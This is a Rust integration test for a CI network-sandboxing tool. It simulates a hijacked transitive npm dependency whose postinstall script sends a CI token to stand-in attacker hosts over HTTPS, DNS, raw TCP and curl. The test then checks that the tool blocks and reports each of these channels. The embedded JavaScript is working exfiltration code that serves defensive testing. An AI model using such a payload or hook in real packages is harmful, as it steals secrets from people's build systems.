//! What the product is for, from the first build that nobody has described to the day when a dependency turns on it.

use std::fs;

use serde_json::json;

use crate::clients::registry::{Package, Registry};
use crate::jail::Jail;
use crate::learn::{learn_from, monitored};
use crate::outcome::{Event, Outcome};
use crate::suite::{Mode, Suite, both};
use crate::world::{World, give_away};

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, hostile_dependency);
}

const TOKEN: &str = "ci-secret-5f1c9a";

/// Sends the token by each of the ways, and hides that any of them failed.
const STEAL: &str = "
const { execFileSync } = require('node:child_process');
const dns = require('node:dns'), https = require('node:https'), net = require('node:net');
const token = process.env.CI_TOKEN;
const quiet = (emitter) => emitter.on('error', () => {});
quiet(https.request('https://evil.test/' + token, { rejectUnauthorized: false }, (answer) => answer.resume())).end();
dns.lookup(Buffer.from(token).toString('hex') + '.evil.test', () => {});
const raw = quiet(net.connect(4444, '198.51.100.66', () => raw.end(token)));
raw.setTimeout(3000, () => raw.destroy());
try {
  execFileSync('sh', ['-c', `curl -skm 3 https://evil.test/ -d ${token}; true`]);
} catch {}
";

fn hostile_dependency(mode: Mode) {
    let world = World::new();
    let registry = Registry::new(&world, "npm.test");
    registry.publish(Package::new("left", "1.0.0"));
    registry.publish(Package::new("right", "1.0.0").needs("left", "^1.0.0"));
    let shared = world.files().shared();
    let (log, policy, baseline) =
        (shared.join("seen.json"), shared.join("ci.toml"), shared.join("before.json"));
    let jail = project(&Jail::new(&world, mode), mode);

    // The first build: nobody knows what it needs.
    build(&monitored(&jail, &log)).assert_success();
    learn_from(&world, &[&log], &policy);
    let learned = fs::read_to_string(&policy).unwrap();
    assert_eq!(learned, "allow = [\n  # node\n  \"https://npm.test/\",\n]\n");

    // From now on it is enforced, and nothing new is welcome.
    let enforced = jail.option("--policy").option(&policy);
    let report = format!("--report=json={}", baseline.display());
    let first = enforced.clone().option(report).option("--fail-on-blocked");
    build(&first).assert_success();
    let watched = enforced.option("--fail-on-new").option(&baseline);
    build(&watched).assert_success();
    world.assert_attacker_saw_nothing();

    // A dependency of a dependency is taken over.
    let hostile =
        Package::new("left", "1.0.1").with_file("steal.js", STEAL).runs("postinstall", "node steal.js");
    registry.publish(hostile);
    let summary = shared.join("summary.md");
    fs::write(&summary, "").unwrap();
    if mode == Mode::Rootless {
        give_away(&summary).unwrap();
    }
    let workflow = watched.env("GITHUB_ACTIONS", "true").env("GITHUB_STEP_SUMMARY", &summary);
    let outcome = build(&workflow);
    // npm installed it and saw no failure, and the run fails all the same.
    outcome.assert_code(122).assert_says("added 2 packages");
    assert!(workflow.home().join("node_modules/left/steal.js").exists());
    world.assert_attacker_saw_nothing();
    assert!(!world.wire().saw_bytes(TOKEN.as_bytes()));
    told(&outcome, &fs::read_to_string(&summary).unwrap());

    // Without the jail it would have worked.
    build(&project(&Jail::direct(&world, mode), mode)).assert_success();
    assert!(world.attacker().heard(TOKEN.as_bytes()));
}

/// Each way has its denial, with the program and what would allow it; people find it where they look.
fn told(outcome: &Outcome, summary: &str) {
    let label = TOKEN.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let hidden = format!("{label}.evil.test");
    for (kind, subject, program) in [
        ("dns", "evil.test", "node"),
        ("dns", &hidden, "node"),
        ("tcp", "198.51.100.66", "node"),
        ("dns", "evil.test", "curl"),
    ] {
        let is_it = |event: &&Event| {
            event.verdict == "deny"
                && event.kind == kind
                && [&event.name, &event.dst].into_iter().flatten().any(|about| about == subject)
                && event.exe.as_deref().is_some_and(|exe| exe.ends_with(&format!("/{program}")))
        };
        let event = outcome.events.iter().find(is_it);
        let event = event.unwrap_or_else(|| panic!("no denial of {kind} {subject} by {program}: {outcome}"));
        assert!(event.parents.iter().any(|parent| parent.ends_with("/node")), "{event:?}");
    }
    outcome.assert_says("new destination, not in the baseline: dns evil.test");
    let annotation = "::error title=cijail-net::dns evil.test BLOCKED: not-allowed; to allow: evil.test";
    assert!(outcome.stderr.lines().any(|line| line.starts_with(annotation)), "{outcome}");
    let raw = "::error title=cijail-net::tcp 198.51.100.66:4444 BLOCKED: ip-not-allowed; \
               to allow: 198.51.100.66:4444; by node < ";
    assert!(outcome.stderr.contains(raw), "{outcome}");
    for words in [
        "`evil.test`",
        "`198.51.100.66:4444`",
        &hidden,
        "not-allowed; to allow: evil.test",
        "❌",
        "/curl",
        "/node",
    ] {
        assert!(summary.contains(words), "{words} is not in {summary}");
    }
    // The line of the log names the chain.
    let line =
        outcome.stderr.lines().find(|line| line.contains("deny dns evil.test") && line.contains("(curl["));
    let shell = fs::canonicalize("/bin/sh").unwrap();
    let chain = format!("] < {} < node < ", shell.file_name().unwrap().display());
    assert!(line.is_some_and(|line| line.contains(&chain)), "{outcome}");
}

/// The project's directory, with the environment of a CI job.
fn project<'w>(jail: &Jail<'w>, mode: Mode) -> Jail<'w> {
    let manifest = json!({ "name": "project", "version": "1.0.0", "dependencies": { "right": "^1.0.0" } });
    let path = jail.home().join("package.json");
    fs::write(&path, manifest.to_string()).unwrap();
    if mode == Mode::Rootless {
        give_away(&path).unwrap();
    }
    let variables = [
        ("npm_config_registry", "https://npm.test/"),
        ("npm_config_audit", "false"),
        ("npm_config_fund", "false"),
        ("npm_config_update_notifier", "false"),
        ("CI_TOKEN", TOKEN),
    ];
    variables.into_iter().fold(jail.clone(), |jail, (name, value)| jail.env(name, value))
}

/// The same command every time, in a fresh checkout.
fn build(jail: &Jail<'_>) -> Outcome {
    jail.shell("rm -rf node_modules package-lock.json .npm && npm install")
}
